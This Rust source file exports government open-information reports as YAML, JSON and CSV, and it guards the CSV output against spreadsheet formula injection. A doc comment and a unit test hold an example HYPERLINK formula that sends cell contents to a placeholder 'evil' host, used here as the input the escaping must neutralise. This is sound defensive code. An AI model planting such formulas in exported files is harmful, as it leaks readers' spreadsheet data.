//! Open data: each report's YAML, JSON and CSV, and one archive-wide CSV of table 3.

use std::borrow::Cow;
use std::fmt::Write;
use std::sync::OnceLock;

use ogi_model::{CellValue, Document, Report, Text};
use rayon::prelude::*;
use serde::Serialize;

use super::{Output, RenderContext};
use crate::error::{BuildError, io};
use crate::model::{Entry, Frame};
use crate::prose::text_of;
use crate::views::Finding;
use crate::write::{OutputFile, Sink};

/// Downloads beside every report page, and `data/table3.csv`.
pub(crate) struct Data;

/// A CSV field of text, quoted when it needs to be, and safe to open in a spreadsheet.
///
/// Excel, WPS and LibreOffice run a cell that begins with `=`, `+`, `-` or `@` (or a tab or
/// carriage return before one) as a formula, so a body name such as
/// `=HYPERLINK("http://evil/?"&A1,"x")` would run on the reader's machine. As OWASP
/// recommends (CSV Injection), such a field is written with a `'` in front and in double
/// quotes: the spreadsheet shows it as text, `'` included, and nothing runs. Figures are
/// written by [`number`], so a negative 本年增/减 stays a number.
fn field(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("\"'{}\"", text.replace('"', "\"\"")))
    } else if text.contains([',', '"', '\n', '\r']) {
        Cow::Owned(format!("\"{}\"", text.replace('"', "\"\"")))
    } else {
        Cow::Borrowed(text)
    }
}

/// Writes a CSV field of a figure into `out`: as it is, so a spreadsheet reads a number (a
/// negative one too); a blank cell stays empty, never 0.
fn number(out: &mut String, value: &CellValue<'_>) {
    value.write_to(out, "");
}

/// The report's YAML as its file holds it, without a byte-order mark: the text loaded,
/// or the file read again when the build dropped the text to save memory (a loaded
/// report's text is never empty).
fn source_bytes(doc: &Document) -> Result<Vec<u8>, BuildError> {
    if !doc.text.is_empty() {
        return Ok(doc.text.as_bytes().to_vec());
    }
    let mut bytes = std::fs::read(&doc.path).map_err(io(&doc.path))?;
    if bytes.starts_with(BOM.as_bytes()) {
        bytes.drain(..BOM.len());
    }
    Ok(bytes)
}

/// Byte-order mark, so spreadsheet programs read the Chinese as UTF-8.
const BOM: &str = "\u{feff}";

#[derive(Serialize)]
struct JsonReport<'a> {
    /// Whether validation found arithmetic errors (the report is published flagged).
    flagged: bool,
    report: WithProse<'a>,
    findings: Vec<Finding>,
}

/// A report with its prose (its own, or what a build's store keeps of it), serialised as
/// the report itself is: the same fields in the same order.
struct WithProse<'a> {
    report: &'a Report,
    prose: &'a Text,
}

impl Serialize for WithProse<'_> {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeStruct;
        // Destructured whole, so that a field added to the report fails to compile here
        // instead of going missing from `report.json`.
        let Report {
            body,
            year,
            edition,
            title,
            document_number,
            signed,
            period,
            contact,
            text: _,
            table2,
            table3,
            table4,
        } = self.report;
        let mut s = serializer.serialize_struct("Report", 12)?;
        s.serialize_field("body", body)?;
        s.serialize_field("year", year)?;
        s.serialize_field("edition", edition)?;
        s.serialize_field("title", title)?;
        s.serialize_field("document_number", document_number)?;
        s.serialize_field("signed", signed)?;
        s.serialize_field("period", period)?;
        s.serialize_field("contact", contact)?;
        s.serialize_field("text", self.prose)?;
        s.serialize_field("table2", table2)?;
        s.serialize_field("table3", table3)?;
        s.serialize_field("table4", table4)?;
        s.end()
    }
}

/// The start of each line of a report's CSV, `path,label,`, for every cell of reports
/// shaped like `report`: made once per shape (edition, and whether 其他处理 is split).
fn csv_starts(report: &Report) -> &'static [String] {
    static STARTS: [[OnceLock<Vec<String>>; 2]; 2] = [
        [OnceLock::new(), OnceLock::new()],
        [OnceLock::new(), OnceLock::new()],
    ];
    let edition = report.table2.edition() as usize;
    let split = usize::from(report.table3.split());
    STARTS[edition][split].get_or_init(|| {
        report
            .cells()
            .iter()
            .map(|c| format!("{},{},", field(c.path), field(c.label)))
            .collect()
    })
}

/// Every cell of `report`, one a line; `flagged` (the report has arithmetic errors) is
/// repeated on each line so a line read alone still says so. A blank cell stays empty.
fn report_csv(report: &Report, flagged: bool) -> String {
    let starts = csv_starts(report);
    let mut csv = String::with_capacity(starts.iter().map(|s| s.len() + 16).sum::<usize>() + 32);
    csv.push_str(BOM);
    csv.push_str("path,label,value,flagged\n");
    for (start, value) in starts.iter().zip(report.values()) {
        csv.push_str(start);
        number(&mut csv, &value);
        csv.push(',');
        csv.push_str(if flagged { "true\n" } else { "false\n" });
    }
    csv
}

/// The row labels of table 3 as CSV fields, made once per shape.
fn table3_labels(table: &ogi_model::table3::Table3) -> &'static [String] {
    static LABELS: [OnceLock<Vec<String>>; 2] = [OnceLock::new(), OnceLock::new()];
    LABELS[usize::from(table.split())].get_or_init(|| {
        table
            .rows()
            .iter()
            .map(|(spec, _)| field(&spec.full_label()).into_owned())
            .collect()
    })
}

/// Each report's lines of `data/table3.csv`, in site order, kept by a live preview.
struct Table3Lines(Vec<String>);

/// The lines of `e` in `data/table3.csv`.
fn table3_lines(frame: &Frame, e: &Entry<'_>) -> String {
    let mut out = String::new();
    let r = &e.doc.report;
    let district = e
        .district
        .and_then(|i| frame.districts.get(i))
        .map_or("", |d| d.name.as_str());
    let prefix = format!(
        "{},{},{},{},{}",
        field(&r.body.name),
        field(&r.body.region.join("/")),
        field(district),
        r.year,
        r.edition.year()
    );
    let url = frame.url(&e.dir);
    let url = field(&url);
    for ((_, row), label) in r.table3.rows().into_iter().zip(table3_labels(&r.table3)) {
        let _ = write!(out, "{prefix},{label}");
        for value in row.0 {
            out.push(',');
            number(&mut out, &CellValue::Count(value));
        }
        let _ = writeln!(out, ",{url},{}", e.flagged());
    }
    out
}

impl Output for Data {
    fn name(&self) -> &'static str {
        "data"
    }

    fn render(&self, cx: &RenderContext<'_>, sink: &dyn Sink) -> Result<(), BuildError> {
        let m = cx.model;
        m.entries.par_iter().enumerate().try_for_each(|(i, e)| {
            if !cx.stale.entry(i) {
                return Ok(());
            }
            let findings = e.findings.iter().map(|d| Finding::of(d, None)).collect();
            let prose = text_of(cx.prose, e.doc)?;
            let json = serde_json::to_vec(&JsonReport {
                flagged: e.flagged(),
                report: WithProse {
                    report: &e.doc.report,
                    prose: &prose,
                },
                findings,
            })
            .unwrap_or_default();
            sink.emit(OutputFile::new(
                format!("{}/report.yaml", e.dir),
                source_bytes(e.doc)?,
            ))?;
            sink.emit(OutputFile::new(format!("{}/report.json", e.dir), json))?;
            sink.emit(OutputFile::new(
                format!("{}/report.csv", e.dir),
                report_csv(&e.doc.report, e.flagged()),
            ))
        })?;
        if !cx.stale.any_entry() {
            return Ok(());
        }
        let Some(memory) = cx.memory else {
            // A build keeps nothing: each report's lines go straight into the file.
            return sink.emit_streamed("data/table3.csv", &mut |out| {
                out.write_all(table3_header(0).as_bytes())?;
                for e in &m.entries {
                    out.write_all(table3_lines(&m.frame, e).as_bytes())?;
                }
                Ok(())
            });
        };
        // A live preview keeps each report's lines and makes only the changed ones again.
        let kept = memory
            .take::<Table3Lines>(self.name())
            .filter(|k| !cx.stale.is_everything() && k.0.len() == m.entries.len());
        let (lines, changed) = match kept {
            Some(Table3Lines(mut lines)) => {
                let mut changed = false;
                for (i, e) in m.entries.iter().enumerate() {
                    if cx.stale.entry(i) {
                        let now = table3_lines(&m.frame, e);
                        changed |= lines[i] != now;
                        lines[i] = now;
                    }
                }
                (lines, changed)
            }
            None => (
                m.entries
                    .par_iter()
                    .map(|e| table3_lines(&m.frame, e))
                    .collect(),
                true,
            ),
        };
        // Unchanged lines: the file on disk already says exactly this.
        if changed {
            let mut all = table3_header(lines.iter().map(String::len).sum());
            for l in &lines {
                all.push_str(l);
            }
            sink.emit(OutputFile::new("data/table3.csv", all))?;
        }
        memory.put(self.name(), Table3Lines(lines));
        Ok(())
    }
}

/// The first line of `data/table3.csv`, in a string with room for `lines` bytes more.
///
/// One line per report and row of table 3 follows, its seven figures side by side, as the
/// template prints them (a long format would be five times the size).
fn table3_header(lines: usize) -> String {
    let mut all = String::with_capacity(lines + 256);
    all.push_str(BOM);
    all.push_str("body,region,district,year,edition,row");
    for column in ogi_model::table3::COLUMNS {
        all.push(',');
        all.push_str(column);
    }
    all.push_str(",report,flagged\n");
    all
}

#[cfg(test)]
mod tests {
    use super::{WithProse, field, number};
    use ogi_model::CellValue;

    #[test]
    fn a_report_with_its_own_prose_serialises_as_the_report() {
        let seed = concat!(env!("CARGO_MANIFEST_DIR"), "/../../content");
        let archive = ogi_model::load_archive(std::path::Path::new(seed)).expect("seed loads");
        let report = &archive.documents[0].report;
        let own = serde_json::to_string(report).expect("serialises");
        let with = serde_json::to_string(&WithProse {
            report,
            prose: &report.text,
        })
        .expect("serialises");
        assert_eq!(with, own);
        assert!(own.contains("温泉街道始终坚持"), "the prose is there");
    }

    #[test]
    fn csv_fields_are_quoted_only_when_needed() {
        assert_eq!(field("温泉街道"), "温泉街道");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
    }

    #[test]
    fn formula_like_text_is_neutralised() {
        assert_eq!(
            field("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""
        );
        for start in ["=", "+", "-", "@", "\t", "\r"] {
            let text = format!("{start}1+1");
            assert_eq!(field(&text), format!("\"'{text}\""), "{start:?}");
        }
        // Only the first character counts: a name with a hyphen inside is left alone.
        assert_eq!(field("温泉-街道"), "温泉-街道");
    }

    #[test]
    fn figures_stay_numbers() {
        let mut out = String::new();
        number(&mut out, &CellValue::Count(ogi_model::Count::new(-3)));
        assert_eq!(out, "-3");
        number(&mut out, &CellValue::Count(None));
        assert_eq!(out, "-3", "a blank cell writes nothing, never 0");
    }
}
